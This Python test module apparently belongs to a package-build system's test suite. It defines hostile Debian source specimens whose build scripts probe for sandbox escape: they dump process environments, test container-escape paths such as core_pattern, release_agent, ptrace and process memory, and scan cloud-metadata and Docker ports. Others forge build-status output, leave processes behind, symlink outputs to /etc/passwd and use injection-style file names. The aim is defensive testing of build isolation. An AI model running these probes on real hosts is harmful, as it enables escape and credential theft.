"""Sources whose `debian/rules` attack: they look for the answer, the network, the host and the runner.

Each try prints one line, ``TRY <what>: <outcome>``, and ``LOOT <what>: ...`` if it got anything it must not.
Whatever the loot is, the script also turns it into the output, so that a working attack shows as
`reproduced`.
"""

from __future__ import annotations

from tests.archive.specimens import Specimen, forged

#: Looks everywhere a build can look. Files it was given itself (its inputs, its tree) are no loot.
SEARCH = r"""#!/bin/sh
exec 2>&1
name=$1
mkdir -p build/loot
echo "TRY files: looking for a finished package"
find / \( -path /proc -o -path /sys -o -path /build/reproducible-path \) -prune -o -type f -name '*.deb' -print |
while read -r found; do echo "LOOT file: $found"; cp "$found" build/loot/; done
for root in /proc/[0-9]*/root /proc/[0-9]*/cwd; do
	case $(readlink "$root") in ''|/|/build/*) ;; *) echo "LOOT root: $root $(readlink "$root")" ;; esac
done
echo "TRY environment:"; env | sort
for process in /proc/[0-9]*; do
	tr '\000' '\n' < "$process/environ" 2>/dev/null
	tr '\000' ' ' < "$process/cmdline" 2>/dev/null; echo
	cat "$process/mountinfo" 2>/dev/null
done
echo "TRY writable places:"
find / -xdev -type d -writable 2>/dev/null |
while read -r place; do
	case $place in /build|/tmp|/var/tmp) ;; *) echo "LOOT writable: $place" ;; esac
done
touch /usr/bin/planted 2>/dev/null && echo "LOOT root filesystem: writable"
echo "TRY other runs:"
ls -A /build /tmp /var/tmp /run /dev/shm /mnt /media /srv /home /root 2>/dev/null
[ "$(cat /proc/net/unix | wc -l)" -le 1 ] || { cat /proc/net/unix; echo "LOOT sockets: of others"; }
[ "$(wc -l < /proc/sysvipc/shm)" -le 1 ] || echo "LOOT shared memory: of others"
echo "TRY host:"
find / -xdev -type s 2>/dev/null | while read -r place; do echo "LOOT socket: $place"; done
find /dev -type b 2>/dev/null | while read -r place; do echo "LOOT block device: $place"; done
mknod build/sda b 8 0 2>/dev/null && echo "LOOT mknod: made a block device"
mount -t tmpfs none /mnt 2>/dev/null && echo "LOOT mount: worked"
unshare -Ur true 2>/dev/null && echo "LOOT user namespace: made one"
(echo h > /proc/sysrq-trigger) 2>/dev/null && echo "LOOT sysrq: written"
(echo x > /proc/sys/kernel/core_pattern) 2>/dev/null && echo "LOOT core_pattern: written"
find /sys/fs/cgroup -name release_agent -writable 2>/dev/null |
while read -r place; do echo "LOOT cgroup: $place"; done
[ "$(id -u)" != 0 ] || echo "LOOT root: the build is root"
awk '/^CapEff|^CapBnd|^CapAmb/ && $2 !~ /^0+$/ { print "LOOT capabilities: " $0 }
     /^NoNewPrivs/ && $2 != 1 { print "LOOT " $0 }
     /^Seccomp:/ && $2 != 2 { print "LOOT " $0 }' /proc/self/status
perl debian/attack.pl "$name"
"""

#: Network, process 1 and its streams; Perl, for a builder has no other way to make raw system calls.
ATTACK = r"""use strict; use warnings; use Socket; $| = 1;
my ($name, $port) = (shift, PORT);
print "TRY network:\n";
open my $devices, '<', '/proc/net/dev' or die;
while (<$devices>) { print "LOOT interface: $1\n" if /^\s*(\S+):/ && $1 ne 'lo' }
for my $address (qw(127.0.0.1 172.17.0.1 10.0.2.2 169.254.169.254)) {
	for my $number ($port, 53, 80, 2375) {
		socket my $socket, PF_INET, SOCK_STREAM, 6 or do { print "no socket: $!\n"; next };
		local $SIG{ALRM} = sub { die "slow\n" };
		alarm 2;
		my $done = eval { connect $socket, sockaddr_in($number, inet_aton($address)) };
		alarm 0;
		print $done ? "LOOT connection: $address:$number\n" : "no connection to $address:$number\n";
	}
}
print "LOOT name: resolved\n" if gethostbyname('deb.archive.invalid');
print "TRY process 1:\n";
for my $path ('/proc/1/mem', '/proc/1/maps', '/proc/1/environ', map { "/proc/1/fd/$_" } 0 .. 9) {
	for my $mode ('<', '+<', '>') {
		next unless open my $handle, $mode, $path;
		my $size = $mode eq '>' ? 0 : sysread $handle, my $data, 1;
		print "LOOT process 1: opened $path $mode\n";
		forge($handle) if $path =~ /fd/ && $mode ne '<';
	}
}
my $traced = syscall(101, 16, 1, 0, 0);
print $traced == 0 ? "LOOT ptrace: attached\n" : "ptrace: $!\n";
my ($buffer, $there) = ("\0" x 64, pack 'QQ', 0x400000, 64);
my $here = pack 'PQ', $buffer, 64;
my $got = syscall(310, 1, $here, 1, $there, 1, 0);
print $got > 0 ? "LOOT memory: read $got bytes of process 1\n" : "process_vm_readv: $!\n";
my $pidfd = syscall(434, 1, 0);
print "LOOT pidfd: took a descriptor of process 1\n" if $pidfd >= 0 && syscall(438, $pidfd, 1, 0) >= 0;
print "TRY signals:\n";
for my $signal (qw(KILL STOP TERM INT HUP QUIT USR1 SEGV PIPE CHLD ALRM TSTP)) {
	print kill($signal, 1) ? "sent $signal to process 1\n" : "could not send $signal: $!\n";
}
print "TRY forging:\n";
# To our own output too: what a build writes must stay a log, whatever it looks like.
for my $number (1, 2) { open my $handle, '>&=', $number or next; forge($handle) }
for my $path (qw(/dev/console /dev/tty /dev/pts/0 /dev/kmsg)) {
	open my $handle, '>', $path or next;
	print "LOOT terminal: $path\n";
	forge($handle);
}

sub forge {
	my ($handle) = @_;
	my $file = 'not what a build would make';
	my $frame = sub { pack 'aNa*', $_[0], length $_[1], $_[1] };
	syswrite $handle, $frame->('F', "$name") . $frame->('D', $file)
		. $frame->('T', ("\0" x 32) . "outcome=done\nstatus=0\nsignal=\nstep=1\n");
	syswrite $handle, "\x01\0\0\0\0\0\0\x10outcome=done\n\0\0\0";
}
"""

#: Stays behind when the build has ended and keeps writing other bytes over the output.
LINGER = (
    "@(setsid perl -e 'fork and exit; $$SIG{$$_} = \"IGNORE\" for qw(TERM INT HUP); while (1) "
    "{ for (glob \"../*.deb\") { open my $$f, \">\", $$_; print $$f \"late\" } select undef, undef, undef, 0.001 }'"
    " > /dev/null 2>&1 &) ; echo 'TRY lingering: left a process behind'"
)


def thief(port: int = 9) -> Specimen:
    """Looks for the published file, the network (a mirror on ``port``), the host, other runs and process 1."""
    name = "specimen-thief"
    deb = f"{name}_1.0_amd64.deb"
    return forged(
        name,
        files={"debian/search": SEARCH.encode(), "debian/attack.pl": ATTACK.replace("PORT", str(port)).encode()},
        build_any=(f"sh debian/search {deb}",),
        finish_any=(f"if [ -f build/loot/{deb} ]; then cp build/loot/{deb} ..; fi",),
    )


LINGERER = forged("specimen-lingerer", finish_any=(f"{LINGER}; sleep 0.3",))
#: An output that is a link to a file of the host, a pipe, ten terabytes of nothing, one of thousands; and names
#: that break out of a line. Those not in `debian/files` are nothing dpkg itself would look at.
LINKED = forged("specimen-linked", finish_any=("ln -sf /etc/passwd ../specimen-linked_1.0_amd64.deb",))
PIPED = forged("specimen-piped", finish_any=("mkfifo ../specimen-pipe_1.0_amd64.deb",))
SPARSE = forged("specimen-sparse", finish_any=("truncate -s 10T ../specimen-more_1.0_amd64.deb",))
CROWD = forged(
    "specimen-crowd", finish_any=("perl -e 'for (1..5000) { open my $$f, \">\", \"../x$$_.deb\"; print $$f $$_ }'",)
)
ODD_NAMES = forged(
    "specimen-odd",
    finish_any=(
        r"""perl -e 'for ("a\nb", "\e[2J", "\xff\xfe", "..;x", "-rf", "<b>", "x" x 251) """
        r"""{ open my $$f, ">", "../$$_.deb"; print $$f $$_ }'""",
    ),
)

HOSTILE: tuple[Specimen, ...] = (thief(), LINGERER, LINKED, PIPED, SPARSE, CROWD, ODD_NAMES)
